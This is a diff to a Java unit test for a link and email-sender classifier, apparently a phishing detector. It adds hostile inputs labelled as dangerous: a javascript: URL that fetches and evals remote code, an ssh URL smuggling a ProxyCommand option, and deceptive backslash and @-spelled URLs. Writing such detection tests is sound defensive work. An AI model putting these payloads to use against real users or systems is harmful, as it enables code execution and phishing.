@@ -41,6 +41,12 @@ class LinkReadingTest {
         "JaVaScRiPt:alert(1) dangerous-scheme",
         "search-ms:query=x&crumb=location:\\\\\\\\evil dangerous-scheme",
         "ms-msdt:/id dangerous-scheme",
+        "javascript:eval(name) dangerous-scheme",
+        "javascript:fetch('//a.test').then(r=>r.text()).then(eval) dangerous-scheme",
+        "javascript:a();location='//a.test' dangerous-scheme",
+        "ssh://-oProxyCommand=x/a dangerous-scheme",
+        "https:\\\\a.test/b deceptive-spelling",
+        "https://kestrelmint.com\\\\@a.test/ deceptive-spelling",
         "data:text/html;base64,AAAA content-in-link",
         "data:image/svg+xml,x content-in-link",
         "blob:https://a.test/1 content-in-link",
@@ -83,6 +89,25 @@ class LinkReadingTest {
     }
   }
 
+  @Test
+  void whoAMailComesFromIsLookedAtLikeALink() {
+    assertThat(
+            LinkReading.ofAddress("linkedin-careers.net", "the header From", WATCH).stream()
+                .map(one -> one.code().code() + " in " + one.evidence().get("where")))
+        .containsExactly("imitated-domain in the header From");
+    assertThat(
+            LinkReading.ofAddress("mail.kestrelmint.com.pay.test", "the header From", WATCH)
+                .stream()
+                .map(one -> one.code().code()))
+        .containsExactly("own-domain-imitated");
+    assertThat(
+            LinkReading.ofAddress("www.drain.test", "the header Reply-To", WATCH).stream()
+                .map(one -> one.code().code()))
+        .containsExactly("listed-domain");
+    assertThat(LinkReading.ofAddress("linkedin.com", "the header From", WATCH)).isEmpty();
+    assertThat(LinkReading.ofAddress("", "the header From", WATCH)).isEmpty();
+  }
+
   @ParameterizedTest
   @ValueSource(
       strings = {
@@ -101,6 +126,13 @@ class LinkReadingTest {
         "https://github.com/some/one",
         "https://github.com/login",
         "https://accounts.google.com/o/oauth2/v2/auth?client_id=5c&scope=openid+email+profile",
+        "javascript:void(0)",
+        "javascript:popUp('news.cfm?id=95027')",
+        "javascript:history.back()",
+        "ssh://build.example.org/backup",
+        "file:///srv/packages/list",
+        "https://weblog.example.org/a\\n",
+        "http://%7Bname%7D%20%7Bat%7D/",
         "https://login.example.org/oauth/authorize?scope=mail.read",
         "http:/example.org",
         "",
